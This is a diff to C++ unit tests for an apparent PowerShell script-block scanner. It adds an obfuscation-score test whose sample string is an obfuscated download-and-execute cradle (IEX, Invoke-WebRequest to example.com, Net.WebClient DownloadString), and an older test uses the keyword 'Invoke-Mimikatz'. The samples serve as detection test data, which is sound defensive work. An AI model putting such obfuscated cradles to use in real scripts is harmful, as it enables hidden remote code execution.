@@ -52,8 +52,15 @@ std::string Utf16le(std::string_view ascii) {
 
 class AnalyzerTest : public ::testing::Test {
  protected:
+  // Rule alerts only, unless a test turns the obfuscation score on.
+  static AnalysisOptions RulesOnly() {
+    AnalysisOptions o;
+    o.obfuscation_score = false;
+    return o;
+  }
+
   std::vector<Kept> Analyze(std::string_view text, int level = 5, std::string_view path = "",
-                            AnalysisOptions options = {}) {
+                            AnalysisOptions options = RulesOnly()) {
     Analyzer analyzer(rules_, options);
     std::vector<FragmentSpan> spans = {{1, 0, static_cast<uint32_t>(text.size()), 7}};
     ScriptBlock block;
@@ -125,10 +132,10 @@ TEST_F(AnalyzerTest, DecodedLayersAreScannedWithTheirPath) {
   EXPECT_EQ(alerts[0].path[1].encoding, "utf8");
   EXPECT_GE(stats_.layers_decoded, 2u);
 
-  AnalysisOptions no_decode;
+  AnalysisOptions no_decode = RulesOnly();
   no_decode.decode.enabled = false;
   EXPECT_TRUE(Analyze(text, 5, "", no_decode).empty());
-  AnalysisOptions shallow;
+  AnalysisOptions shallow = RulesOnly();
   shallow.decode.max_depth = 1;
   EXPECT_TRUE(Analyze(text, 5, "", shallow).empty());
   EXPECT_EQ(stats_.decode_depth_limit, 1u);
@@ -136,11 +143,27 @@ TEST_F(AnalyzerTest, DecodedLayersAreScannedWithTheirPath) {
 
 TEST_F(AnalyzerTest, ExcerptsNeverCutUtf8) {
   std::string text = std::string(39, 'a') + "\xC3\xBC" "Invoke-Mimikatz" "\xC3\x9F" + "b";
-  AnalysisOptions options;
+  AnalysisOptions options = RulesOnly();
   options.excerpt_context = 1;
   auto alerts = Analyze(text, 5, "", options);
   ASSERT_EQ(alerts.size(), 1u);
   EXPECT_EQ(alerts[0].excerpts[0], "\xC3\xBC" "Invoke-Mimikatz" "\xC3\x9F");
+}
+
+TEST_F(AnalyzerTest, ObfuscationScoreRaisesItsOwnAlert) {
+  // Invoke-Obfuscation TOKEN/STRING style: ticks, concatenation, -f reordering.
+  std::string text =
+      "&(\"{1}{0}\"-f'X','IE') ((('I'+'nv'+'oke-')+('Web'+'Req')+'ue'+'st') + ' h'+'tt'+'p:'+"
+      "'//'+'ex'+'am'+'ple'+'.c'+'om') ; ${`E`N`V:`C`O`m`S`p`E`c}[4,15,25]-JoIn'' ;"
+      "(\"{5}{2}{0}{1}{3}{4}\" -f 'ow','nl','.D','oadS','tring','(New-Object Net.WebClient)')";
+  AnalysisOptions on;
+  auto alerts = Analyze(text, 5, "", on);
+  ASSERT_FALSE(alerts.empty());
+  EXPECT_EQ(alerts.back().rule, "sbscan.obfuscation.score");
+  EXPECT_GE(stats_.obfuscated, 1u);
+  EXPECT_TRUE(Analyze("Get-ChildItem C:\\ | Where-Object Length -gt 0 | Sort-Object Name", 5, "",
+                      on)
+                  .empty());
 }
 
 TEST_F(AnalyzerTest, NothingOnBenignText) {
